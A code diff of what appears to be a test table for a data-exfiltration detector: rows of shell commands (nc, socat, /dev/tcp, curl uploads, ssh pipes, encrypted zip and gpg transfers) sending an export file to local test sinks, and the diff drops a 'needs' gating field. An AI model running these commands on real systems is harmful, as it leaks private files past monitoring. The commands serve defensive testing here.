@@ -7,9 +7,6 @@ sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} ports of its servers, {port}
 
 import dataclasses
 
-# What other parts of the agent must be there for a row. Whoever merges one adds it: its rows are then held to what they promise.
-MERGED: set[str] = {"network", "lineage"}
-
 
 @dataclasses.dataclass(frozen=True)
 class Row:
@@ -20,7 +17,6 @@ class Row:
     unpack: str = "cat"               # makes what arrived readable again, from its input to its output
     at: str = ""                      # where that is, as a pattern in {out}; empty: anything of this run's name outside
     show: str = ""                    # or a command that prints it
-    needs: str = ""                   # "network" (the kernel's guard of connections), "lineage" (pipes and derived files)
     block: str = "yes"                # "late": it has happened when we see it; the README says why
     picture: bool = False             # what leaves is a picture: that there is one is all that can be asked of it
     knows_program: bool = True        # else the user at least
@@ -61,10 +57,10 @@ ROWS = [
     # Nobody is as fast as a shell: a file that is opened within some microseconds of its creation may be faster than its mark.
     medium("cp {s} {out}/{t}.png && sleep 0.3 && cp {out}/{t}.png {m}/{t}.png", "cp"),
     medium("base64 {s} > {out}/{t}.txt && sleep 0.3 && cp {out}/{t}.txt {m}/{t}.txt", "cp", unpack="base64 -d"),
-    medium("rsync {s} {m}/{t}.csv", "rsync", needs="lineage"),
-    medium("cat {s} | tee {m}/{t}.csv > /dev/null", "tee", needs="lineage", same_event=False),
+    medium("rsync {s} {m}/{t}.csv", "rsync"),
+    medium("cat {s} | tee {m}/{t}.csv > /dev/null", "tee", same_event=False),
     medium("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s} && cp {out}/{t}.gpg {m}/{t}.gpg", "cp",
-           unpack="gpg --batch --quiet --passphrase x -d", needs="lineage"),
+           unpack="gpg --batch --quiet --passphrase x -d"),
     # Network shares.
     Row("cp {s} {share}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}),
     Row("cat {s} > {share}/{t}.csv", "network_share", "cat", {"kind": "share", "address": "127.0.0.1"}),
@@ -84,26 +80,25 @@ ROWS = [
     network("lftp -c 'open ftp://127.0.0.1:{ftp}; put {s} -o {t}.csv'", "lftp", "{ftp}"),
     network("rclone -q --config /dev/null copyto {s} :ftp,host=127.0.0.1,port={ftp},user=anonymous,pass={obscured}:{t}.csv", "rclone", "{ftp}"),
     network("socat -u FILE:{s} TCP:127.0.0.1:{port}", "socat", "{port}"),
-    network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}", needs="network"),
-    network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}", needs="network"),
-    network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}", needs="network"),
-    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network",
+    network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}"),
+    network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}"),
+    network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}"),
+    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}",
             fails=False),  # it was connected before: what it sends is dropped
     network("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(open('{s}', 'rb').read())\"",
-            "python3", "{port}", needs="network", fails=False),
+            "python3", "{port}", fails=False),
     network("perl -MIO::Socket::INET -e 'open F, shift; print {{IO::Socket::INET->new(shift)}} <F>' {s} 127.0.0.1:{port}", "perl",
-            "{port}", needs="network"),
-    network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}", needs="network"),
+            "{port}"),
+    network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}"),
     # Whoever opens the file is told, by the way out of the one who reads from him.
-    network("cat {s} | nc -N 127.0.0.1 {port}", "cat", "{port}", needs="network lineage"),
+    network("cat {s} | nc -N 127.0.0.1 {port}", "cat", "{port}"),
     network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "tar", "{http}",
-            unpack="base64 -d | gzip -dc", needs="network lineage"),
-    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "tar", "{sshport}",
-            needs="network lineage"),
+            unpack="base64 -d | gzip -dc"),
+    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "tar", "{sshport}"),
     network("gzip -c {s} > {out}/{t}.bin && curl -sf -T {out}/{t}.bin http://127.0.0.1:{http}/{t}", "curl", "{http}",
             unpack="gzip -dc"),
     network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
-            unpack="funzip -x", needs="lineage"),
+            unpack="funzip -x"),
     # Version control.
     Row("git init -q {out}/{t} && cp {s} {out}/{t}/ && git -C {out}/{t} add export.csv", "version_control", "git",
         show="git -c safe.directory=* -C {out}/{t} cat-file -p :export.csv"),
